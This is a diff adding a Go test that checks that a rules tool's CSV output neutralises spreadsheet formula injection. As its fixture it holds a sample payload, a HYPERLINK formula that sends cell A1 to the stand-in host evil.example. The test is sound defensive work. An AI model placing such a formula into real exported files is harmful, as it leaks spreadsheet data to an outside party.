@@ -527,3 +527,50 @@ func TestRunNightly(t *testing.T) {
 		t.Errorf("--nightly with --from: exit %d, want %d", code, exitUsage)
 	}
 }
+
+// TestCSVOutputNeutralisesFormulas: every CSV a listing prints (breaks, runs,
+// diff and rules list share one writer) neutralises spreadsheet formulas as
+// breaks.csv does, and keeps plain decimals summable.
+func TestCSVOutputNeutralisesFormulas(t *testing.T) {
+	hermetic(t)
+	src, err := os.ReadFile(filepath.Join("..", "..", "rules", "fx_rate_outlier.sql"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	body := regexp.MustCompile(`(?m)^-- description: .*$`).ReplaceAllString(string(src), "-- description: "+evil)
+	writeFile(t, filepath.Join(dir, "fx_rate_outlier.sql"), 0o644, body)
+	code, stdout, stderr := run(t, "rules", "list", "--rules-dir", dir, "--format", "csv")
+	if code != exitOK {
+		t.Fatalf("rules list: exit %d\n%s", code, stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	desc := slices.Index(recs[0], "description")
+	found := false
+	for _, r := range recs[1:] {
+		if r[0] == "fx_rate_outlier" {
+			found = true
+			if r[desc] != "'"+evil {
+				t.Errorf("description cell %q, want it neutralised %q", r[desc], "'"+evil)
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("no fx_rate_outlier row:\n%s", stdout)
+	}
+
+	var buf bytes.Buffer
+	cells := []string{"=1+1", "-12.50", "@SUM(A1)", "+33", "plain"}
+	tb := table{cols: []string{"a", "b", "c", "d", "e"}}
+	tb.rows = [][]*string{{&cells[0], &cells[1], &cells[2], &cells[3], &cells[4]}}
+	if err := tb.write(&buf, "csv"); err != nil {
+		t.Fatal(err)
+	}
+	if want := "a,b,c,d,e\r\n'=1+1,-12.50,'@SUM(A1),+33,plain\r\n"; buf.String() != want {
+		t.Errorf("csv %q, want %q", buf.String(), want)
+	}
+}
